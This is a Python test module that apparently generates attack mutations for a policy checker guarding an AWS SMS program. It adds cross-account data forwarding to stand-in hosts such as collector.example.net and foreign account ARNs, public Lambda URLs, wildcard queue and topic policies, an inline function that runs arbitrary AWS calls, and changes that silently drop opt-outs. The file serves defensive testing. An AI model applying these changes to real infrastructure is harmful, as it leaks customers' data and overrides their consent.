"""A second one beside the good one: consumers, mappings, subscriptions, stages, schedules, functions, policies."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.edits import add, let_in, several
from tests.infra.policy.attacks.judging.program import FOREIGN_ACCOUNT, Program, allow, att, document, ref

if TYPE_CHECKING:
    from random import Random

    from tests.infra.policy.attacks.attack import Change
    from tests.infra.policy.attacks.judging.workspace import Json

KIND = Kind("a second one beside the good one", Place.PROGRAM)
P = Promise

RECEIVE = ["sqs:ReceiveMessage", "sqs:DeleteMessage", "sqs:GetQueueAttributes"]


def _consume(queue: str, reader: str) -> Change:
    def change(program: Program, _: Random) -> None:
        source, runs = program.queue(queue), program.function(reader)
        program.add(
            "SecondReader",
            "Lambda::EventSourceMapping",
            {"EventSourceArn": att(source), "FunctionName": ref(runs), "BatchSize": 10},
        )
        program.statements(program.role_of(runs)).append(allow(RECEIVE, [att(source)]))

    return change


for _queue, _reader, _promise, _harm in (
    ("inbound", "delivery_events", P.CONSENT, "Half of the STOPs are taken by a function that drops them."),
    ("inbound dead letters", "archive", P.DATA, "STOPs that failed are taken away before anyone sees them."),
    ("requests", "campaign", P.DATA, "One-time passwords are taken by a function that cannot send them."),
    ("bulk", "delivery_events", P.DATA, "Requests of a campaign vanish."),
    ("delivery", "reconcile", P.ALARM, "Outcomes vanish, so the pause on opt-outs never comes."),
    ("cascade", "announcer", P.CONSENT, "Opt-outs of the legal entity are taken by a function that drops them."),
    ("forms", "preferences", P.DATA, "Opt-ins by form vanish."),
    ("preferences", "opt_in_form", P.CONSENT, "People who leave a list on the page stay on it."),
):
    KIND.add_on_program(
        f"{_reader} also reads the queue of {_queue}",
        _promise,
        _harm,
        _consume(_queue, _reader),
        "https://www.elastic.co/guide/en/security/8.19/prebuilt-rule-8-19-26-aws-lambda-event-source-mapping-creation.html",
    )


@KIND.program("a pipe drains the inbound queue", P.CONSENT, "A pipe takes STOPs and hands them to another queue.")
def _(program: Program, _: Random) -> None:
    source, target = program.queue("inbound"), program.queue("forms")
    trust = document({"Effect": "Allow", "Principal": {"Service": "pipes.amazonaws.com"}, "Action": "sts:AssumeRole"})
    access = document(allow(RECEIVE, [att(source)]), allow("sqs:SendMessage", [att(target)]))
    program.add(
        "PipeRole",
        "IAM::Role",
        {"AssumeRolePolicyDocument": trust, "Policies": [{"PolicyName": "Access", "PolicyDocument": access}]},
    )
    program.add("Pipe", "Pipes::Pipe", {"Source": att(source), "Target": att(target), "RoleArn": att("PipeRole")})


def _subscribe(topic: str, protocol: str, endpoint: str, **more: object) -> Change:
    return add(
        "SecondSubscriber",
        "SNS::Subscription",
        lambda p: {"TopicArn": ref(p.topic(topic)), "Protocol": protocol, "Endpoint": endpoint, **more},
    )


SNS_ABUSE = "https://security-labs.elastic.co/security-labs/aws-sns-abuse"
for _topic, _protocol, _endpoint, _promise, _harm in (
    ("inbound", "https", "https://collector.example.net/in", P.NUMBERS, "Each text of a customer is posted elsewhere."),
    ("inbound", "email", "someone@example.net", P.NUMBERS, "Each text of a customer is mailed to somebody."),
    ("inbound", "lambda", f"arn:aws:lambda:us-east-1:{FOREIGN_ACCOUNT}:function:crm", P.NUMBERS, "Texts leak."),
    ("delivery", "https", "https://crm.example.net/d", P.NUMBERS, "Numbers and outcomes are posted elsewhere."),
    ("delivery", "sqs", f"arn:aws:sqs:us-east-1:{FOREIGN_ACCOUNT}:outcomes", P.NUMBERS, "Numbers reach an account."),
    ("alarms", "sms", "+12065550123", P.GATE, "A text is sent by SNS, past the gate and its quiet hours."),
):
    KIND.add_on_program(
        f"a second subscriber of the {_topic} topic by {_protocol}",
        _promise,
        _harm,
        _subscribe(_topic, _protocol, _endpoint),
        SNS_ABUSE,
    )


@KIND.program("results stream into a foreign Firehose", P.NUMBERS, "Numbers and outcomes land in another account.")
def _(program: Program, _: Random) -> None:
    destination = {
        "EventDestinationName": "lake",
        "Enabled": True,
        "MatchingEventTypes": ["TEXT_ALL"],
        "KinesisFirehoseDestination": {
            "DeliveryStreamArn": f"arn:aws:firehose:{program.region}:{FOREIGN_ACCOUNT}:deliverystream/lake",
            "IamRoleArn": f"arn:aws:iam::{program.account}:role/lake",
        },
    }
    program.properties(program.only("SMSVOICE::ConfigurationSet"))["EventDestinations"].append(destination)


KIND.add_on_program(
    "a function whose handler begins like the gate's",
    P.GATE,
    "A function with the gate's role sends what it likes.",
    add(
        "GateToo",
        "Lambda::Function",
        lambda p: {
            **p.copy_of(p.function("send_gate"))["Properties"],
            "Handler": "lambdas.functions.send_gate.handler_test.handler",
        },
    ),
)
KIND.add_on_program(
    "a function with inline code and the keyword handler's role",
    P.CONSENT,
    "Whoever invokes it writes consent and lifts opt-outs.",
    add(
        "Helper",
        "Lambda::Function",
        lambda p: {
            "Runtime": "python3.14",
            "Handler": "index.handler",
            "Role": att(p.role("keyword_handler")),
            "Code": {
                "ZipFile": "import boto3\ndef handler(e, c):\n    return boto3.client(e['s']).__getattr__(e['a'])()"
            },
        },
    ),
)


def _url(name: str) -> Change:
    def change(program: Program, _: Random) -> None:
        runs = program.function(name)
        program.add("Url", "Lambda::Url", {"AuthType": "NONE", "TargetFunctionArn": att(runs)})
        permission = {"Action": "lambda:InvokeFunctionUrl", "Principal": "*", "FunctionUrlAuthType": "NONE"}
        program.add("UrlForAll", "Lambda::Permission", {**permission, "FunctionName": ref(runs)})

    return change


for _name, _promise, _harm in (
    ("send_gate", P.GATE, "Anyone on the internet makes the gate send."),
    ("keyword_handler", P.CONSENT, "Anyone on the internet fakes a text from a customer."),
):
    KIND.add_on_program(
        f"a public URL of {_name}",
        _promise,
        _harm,
        _url(_name),
    )
KIND.add_on_program(
    "an alias that sends some calls to an old version",
    P.CONSENT,
    "Some STOPs are handled by code of last year.",
    several(
        add("Frozen", "Lambda::Version", lambda p: {"FunctionName": ref(p.function("keyword_handler"))}),
        add(
            "Live",
            "Lambda::Alias",
            lambda p: {
                "Name": "live",
                "FunctionName": ref(p.function("keyword_handler")),
                "FunctionVersion": "1",
            },
        ),
        lambda p, _: p.properties(p.mapping("keyword_handler", p.queue("inbound"))).update(FunctionName=ref("Live")),
    ),
)
KIND.add_on_program(
    "a second queue policy replaces the good one",
    P.CONSENT,
    "The last policy wins: the topic may no longer deliver, and all may send.",
    add(
        "Open",
        "SQS::QueuePolicy",
        lambda p: {
            "Queues": [ref(p.queue("inbound"))],
            "PolicyDocument": document(allow("sqs:SendMessage", "*", Principal="*")),
        },
    ),
)
KIND.add_on_program(
    "an inline queue policy lets all read",
    P.NUMBERS,
    "Texts of customers are read by anyone.",
    add(
        "OpenToo",
        "SQS::QueueInlinePolicy",
        lambda p: {
            "Queue": ref(p.queue("inbound")),
            "PolicyDocument": document(allow("sqs:ReceiveMessage", "*", Principal="*")),
        },
    ),
)
KIND.add_on_program(
    "an inline topic policy lets all publish",
    P.CONSENT,
    "Anyone fakes a text from a customer, a YES or a START too.",
    add(
        "OpenTopic",
        "SNS::TopicInlinePolicy",
        lambda p: {
            "TopicArn": ref(p.topic("inbound")),
            "PolicyDocument": document(allow("sns:Publish", "*", Principal="*")),
        },
    ),
)


def _schedule(target: Json, role: Json, rate: str = "rate(1 day)") -> Json:
    return {
        "ScheduleExpression": rate,
        "FlexibleTimeWindow": {"Mode": "OFF"},
        "Target": {**target, "RoleArn": role},
    }


@KIND.program("a schedule calls the text API itself", P.GATE, "A text leaves each day past the gate.")
def _(program: Program, _: Random) -> None:
    text = {"DestinationPhoneNumber": "+12065550123", "MessageBody": "Sale today"}
    target = {"Arn": "arn:aws:scheduler:::aws-sdk:pinpointsmsvoicev2:sendTextMessage", "Input": json.dumps(text)}
    program.add("Daily", "Scheduler::Schedule", _schedule(target, att(program.role("send_gate"))))


@KIND.program("a rule starts campaigns by itself", P.GATE, "A campaign that nobody planned or confirmed starts daily.")
def _(program: Program, _: Random) -> None:
    workflow, role = program.workflow("campaign"), program.copy_of(program.rule_for(program.workflow("audit")))
    by = role["Properties"]["Targets"][0]["RoleArn"]
    target = {"Arn": ref(workflow), "Id": "Campaign", "RoleArn": by, "Input": '{"campaign": {"name": "daily"}}'}
    program.add("EachDay", "Events::Rule", {"ScheduleExpression": "rate(1 day)", "Targets": [target]})
    program.statements(by["Fn::GetAtt"][0]).append(allow("states:StartExecution", [ref(workflow)]))


@KIND.program("a second target of the cascade rule", P.NUMBERS, "Opt-outs with numbers wait for another account.")
def _(program: Program, _: Random) -> None:
    program.add("Copies", "SQS::Queue", {})
    partner = {"AWS": f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"}
    statements = [
        allow("sqs:SendMessage", "*", Principal={"Service": "events.amazonaws.com"}),
        allow(["sqs:ReceiveMessage", "sqs:DeleteMessage"], "*", Principal=partner),
    ]
    program.add("CopiesOpen", "SQS::QueuePolicy", {"Queues": [ref("Copies")], "PolicyDocument": document(*statements)})
    rule = program.rule_for(program.queue("cascade"))
    program.properties(rule)["Targets"].append({"Arn": att("Copies"), "Id": "Copies"})


@KIND.program("the ledger streams into Kinesis too", P.NUMBERS, "All that people do streams to whoever reads it.")
def _(program: Program, _: Random) -> None:
    stream = f"arn:aws:kinesis:{program.region}:{FOREIGN_ACCOUNT}:stream/lake"
    program.properties(program.table("LEDGER"))["KinesisStreamSpecification"] = {"StreamArn": stream}


@KIND.program("the archive is replicated to another account", P.NUMBERS, "A copy of all evidence leaves the account.")
def _(program: Program, _: Random) -> None:
    rule = {"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::partner-archive", "Account": FOREIGN_ACCOUNT}}
    program.properties(program.bucket("archive"))["ReplicationConfiguration"] = {
        "Role": att(program.role("archive")),
        "Rules": [rule],
    }


@KIND.program("an access point of the archive", P.NUMBERS, "Another account reads all evidence by a second door.")
def _(program: Program, _: Random) -> None:
    policy = document(allow("s3:GetObject", "*", Principal={"AWS": f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"}))
    program.add("Door", "S3::AccessPoint", {"Bucket": ref(program.bucket("archive")), "Policy": policy})


@KIND.program("a log group is forwarded", P.NUMBERS, "Logs of the keyword handler stream to another account.")
def _(program: Program, _: Random) -> None:
    logs = program.properties(program.function("keyword_handler"))["LoggingConfig"]["LogGroup"]
    arn = f"arn:aws:logs:{program.region}:{FOREIGN_ACCOUNT}:destination:siem"
    program.add(
        "Forwarder",
        "Logs::SubscriptionFilter",
        {"LogGroupName": logs, "FilterPattern": "", "DestinationArn": arn},
    )


@KIND.program("a replica of the consent table in another region", P.CONSENT, "Writes in two regions overwrite STOPs.")
def _(program: Program, _: Random) -> None:
    table = program.table("SUBSCRIPTIONS")
    resource, properties = program.resources[table], program.properties(table)
    resource["Type"] = "AWS::DynamoDB::GlobalTable"
    properties["Replicas"] = [{"Region": program.region}, {"Region": "eu-west-1"}]
    properties["StreamSpecification"] = {"StreamViewType": "NEW_AND_OLD_IMAGES"}
    properties.pop("PointInTimeRecoverySpecification", None)


KIND.add_on_program(
    "a function may be called by every account",
    P.CONSENT,
    "Anyone invokes the keyword handler with a made-up text.",
    add(
        "Anyone",
        "Lambda::Permission",
        lambda p: {
            "Action": "lambda:InvokeFunction",
            "FunctionName": ref(p.function("keyword_handler")),
            "Principal": "*",
        },
    ),
)
KIND.add_on_program(
    "a rule of any account may call the gate",
    P.GATE,
    "Any account's rule hands the gate a made-up batch of requests.",
    add(
        "AnyRule",
        "Lambda::Permission",
        lambda p: {
            "Action": "lambda:InvokeFunction",
            "FunctionName": ref(p.function("send_gate")),
            "Principal": "events.amazonaws.com",
        },
    ),
)
KIND.add_on_program(
    "a second number of anybody's in the pool",
    P.APART,
    "Texts leave from a number that another brand registered.",
    lambda p, _: p.properties(p.only("SMSVOICE::Pool"))["OriginationIdentities"].append(
        f"arn:aws:sms-voice:{p.region}:{p.account}:phone-number/phone-{'0a1b2c3d' * 4}",
    ),
)
KIND.add_on_program(
    "a second pool with the program's number and the Default list",
    P.CONSENT,
    "Texts from the second pool reach people who said STOP.",
    add(
        "SecondPool",
        "SMSVOICE::Pool",
        lambda p: {
            "OriginationIdentities": p.properties(p.only("SMSVOICE::Pool"))["OriginationIdentities"],
            "MandatoryKeywords": {"HELP": {"Message": "Help"}, "STOP": {"Message": "Bye"}},
            "OptOutListName": "Default",
        },
    ),
)
KIND.add_on_program(
    "a notify configuration on the pool",
    P.GATE,
    "The service sends codes from the pool by itself, past the gate.",
    add(
        "Notify",
        "SMSVOICE::NotifyConfiguration",
        lambda p: {
            "DisplayName": "codes",
            "UseCase": "CODE_VERIFICATION",
            "EnabledChannels": ["SMS"],
            "PoolId": ref(p.only("SMSVOICE::Pool")),
        },
    ),
)
KIND.add_on_program(
    "the bulk queue accepts from any queue's dead letters",
    P.GATE,
    "Requests of other teams are moved into the queue as if they were a campaign's.",
    let_in(
        lambda p: p.queue("bulk"),
        lambda p: allow(
            "sqs:SendMessage",
            att(p.queue("bulk")),
            Principal="*",
            Condition={"StringEquals": {"aws:PrincipalAccount": p.account}},
        ),
    ),
)

ATTACKS = KIND.attacks
